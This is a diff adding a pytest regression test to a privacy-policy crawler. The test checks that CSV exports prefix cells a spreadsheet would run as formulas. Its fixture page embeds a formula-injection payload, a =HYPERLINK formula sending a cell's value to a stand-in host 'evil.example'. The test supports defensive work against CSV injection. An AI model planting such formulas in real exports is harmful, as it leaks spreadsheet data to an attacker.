@@ -7,6 +7,9 @@ import json
 
 import pytest
 
+from crawler import watchlist
+from crawler.siteserver import Page
+from tests.conftest import FAST_SETTINGS
 from tests.query_history import CONTOSO_V1, NORTHWIND_V2, build_history
 
 
@@ -111,3 +114,36 @@ def test_change_flags_are_the_list_history_gives_in_every_format(db, run_cli, tm
     assert {
         (r["policy"], int(r["version_number"])): json.loads(r["change_flags"]) for r in rows
     } == history
+
+
+FORMULA_PAGE = b"""<html><head><title>Privacy</title></head><body><main>
+<p>=HYPERLINK("http://evil.example/?leak="&amp;A1,"Click for details") is how this policy
+starts, a formula in the page text that a spreadsheet would run if a cell began with it.
+We collect your name and e-mail address to run the service, and keep them for a year.</p>
+<h2>Sharing</h2><p>We share data with hosting providers under contract only.</p>
+</main></body></html>"""
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed(site, run_cli, tmp_path):
+    site.pages["/privacy"] = Page(FORMULA_PAGE)
+    watch = tmp_path / "w.yaml"
+    policy = watchlist.Policy(name="quill-privacy", url=site.url("/privacy"), organisation="@Quill")
+    watchlist.save(watch, [policy])
+    db = tmp_path / "crawled.db"
+    run_cli("crawl", "--db", str(db), "--watchlist", str(watch), *FAST_SETTINGS)
+    for fmt in ("csv", "markdown"):
+        out = tmp_path / fmt
+        run_cli("export", "--db", str(db), "--format", fmt, "--out", str(out))
+        with (out / "versions.csv").open(newline="") as handle:
+            (row,) = list(csv.DictReader(handle))
+        assert row["organisation"] == "'@Quill"
+        if fmt == "csv":
+            assert row["markdown"].startswith("'=HYPERLINK(")
+        for cell in row.values():
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
+    # The Markdown files and JSON are not spreadsheets: their text stays as it was.
+    (markdown,) = (tmp_path / "markdown").rglob("*.md")
+    assert markdown.read_text().startswith("=HYPERLINK(")
+    run_cli("export", "--db", str(db), "--format", "json", "--out", str(tmp_path / "json"))
+    (record,) = json.loads((tmp_path / "json" / "versions.json").read_text())
+    assert record["organisation"] == "@Quill" and record["markdown"].startswith("=HYPERLINK(")
